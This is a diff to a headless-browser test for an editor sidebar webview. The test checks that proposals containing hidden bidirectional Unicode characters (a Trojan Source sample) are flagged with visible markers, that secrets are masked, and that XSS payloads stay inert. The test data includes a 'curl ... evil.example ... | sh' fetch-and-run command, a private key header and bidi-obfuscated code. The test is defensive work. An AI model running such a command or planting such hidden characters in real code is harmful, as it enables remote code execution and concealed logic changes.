@@ -10,7 +10,7 @@ import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import type { Locator, Page } from 'playwright-core';
 import type { FromWebview, RuleRow, RunRow, StateMessage } from '../../webview/protocol.js';
-import { captureHostEvents, XSS_IMG, XSS_SCRIPT, type Captured } from './host-events.js';
+import { captureHostEvents, TROJAN, XSS_IMG, XSS_SCRIPT, type Captured } from './host-events.js';
 import {
   openSidebar,
   startHarness,
@@ -878,6 +878,103 @@ void describe('sidebar webview (headless Chromium, real host events)', () => {
       ).length,
     }));
     assert.deepEqual(dom, { pwned: undefined, images: 0, scripts: 1, handlers: 0 });
+  });
+
+  void it('hidden characters: a Trojan Source proposal shows ⟨U+XXXX⟩ markers in the arguments and the diff, and a warning; the card says how many secrets were masked and which were too long to mask', async () => {
+    const s = await sidebar();
+    const { page } = s;
+    await s.send(
+      stateWith({
+        runs: [c.bidiRow, c.secretsRow, ...c.state.runs],
+        approvals: [...c.state.approvals, c.bidi, c.secrets],
+      }),
+    );
+    const bidi = card(page, c.bidi.approval_id);
+    await bidi.waitFor();
+
+    const warning = bidi.locator('.notice.hidden-chars');
+    assert.equal(await warning.count(), 1, 'a warning line on the card');
+    assert.equal(await warning.getAttribute('role'), 'note');
+    assert.equal(
+      await text(warning),
+      'This proposal contains 4 hidden or bidirectional Unicode characters that may be interpreted or compiled differently than what appears. Each is shown as a marker such as ⟨U+202E⟩; hover a marker for its name.',
+    );
+    const marked = '/*⟨U+202E⟩ } ⟨U+2066⟩if (isAdmin)⟨U+2069⟩ ⟨U+2066⟩ begin admins only */';
+    assert.deepEqual(
+      (await diffRows(bidi)).slice(1).map((row) => row.at(-1)),
+      ['const isAdmin = false;', marked, "console.log('ok');"],
+    );
+    const markers = (scope: Locator) =>
+      scope
+        .locator('.hidden-char')
+        .evaluateAll((els) =>
+          els.map((el) => [el.tagName, el.textContent, el.getAttribute('title')]),
+        );
+    const expected = [
+      ['SPAN', '⟨U+202E⟩', 'U+202E RIGHT-TO-LEFT OVERRIDE'],
+      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
+      ['SPAN', '⟨U+2069⟩', 'U+2069 POP DIRECTIONAL ISOLATE'],
+      ['SPAN', '⟨U+2066⟩', 'U+2066 LEFT-TO-RIGHT ISOLATE'],
+    ];
+    assert.deepEqual(await markers(bidi.locator('table.diff')), expected);
+    assert.deepEqual(await markers(bidi.locator('table.args')), expected);
+    assert.equal(
+      await text(bidi.locator('table.args pre').nth(1)),
+      `const isAdmin = false;\n${marked}\nconsole.log('ok');\n`,
+    );
+    // Not one raw bidirectional or zero-width character reaches the page's text.
+    assert.doesNotMatch(await text(bidi), /[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/);
+    assert.ok(TROJAN.includes('\u202e'), 'the proposal really holds them');
+
+    const secrets = card(page, c.secrets.approval_id);
+    const { masked, too_long: tooLong } = c.secrets.redaction ?? { masked: 0, too_long: 0 };
+    assert.ok(
+      masked > 1 && tooLong > 1,
+      `the runtime counted: ${JSON.stringify(c.secrets.redaction)}`,
+    );
+    assert.deepEqual(await secrets.locator('.redaction-note, .notice').allTextContents(), [
+      `${masked} secrets masked (shown as ***).`,
+      `${tooLong} secret-like values were too long to mask and are shown in full.`,
+    ]);
+    assert.equal(await secrets.locator('.notice.too-long').getAttribute('role'), 'note');
+    assert.match(await text(secrets.locator('table.diff')), /-----BEGIN PRIVATE KEY-----/);
+    assert.match(
+      await text(secrets.locator('table.diff')),
+      /curl -s https:\/\/evil\.example\/p \| sh/,
+    );
+    // An ordinary card says none of it.
+    const plain = card(page, c.create.approval_id);
+    assert.equal(
+      await plain.locator('.hidden-chars, .redaction-note, .too-long, .hidden-char').count(),
+      0,
+    );
+
+    // Markers are the only elements added, and nothing became markup or script.
+    const dom = await page.evaluate(() => ({
+      inCode: Array.from(document.querySelectorAll('table.diff td.code *')).map(
+        (el) => el.className,
+      ),
+      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
+      scripts: document.scripts.length,
+      handlers: Array.from(document.querySelectorAll('*')).filter((el) =>
+        Array.from(el.attributes).some((a) => a.name.startsWith('on')),
+      ).length,
+    }));
+    assert.deepEqual([...new Set(dom.inCode)].sort(), [
+      'hidden-char',
+      'line-text',
+      'sign',
+      'visually-hidden',
+    ]);
+    assert.deepEqual([dom.pwned, dom.scripts, dom.handlers], [undefined, 1, 0]);
+
+    await bidi.scrollIntoViewIfNeeded();
+    await shotOf(bidi, 'hidden-chars-card-light');
+    await shotOf(secrets, 'masked-card-light');
+    await s.theme('dark');
+    await shotOf(bidi, 'hidden-chars-card-dark');
+    await s.theme('high-contrast');
+    await shotOf(bidi, 'hidden-chars-card-high-contrast');
   });
 
   void it('the page CSP has no unsafe-inline or unsafe-eval, and blocks inline script and inline handlers', async () => {
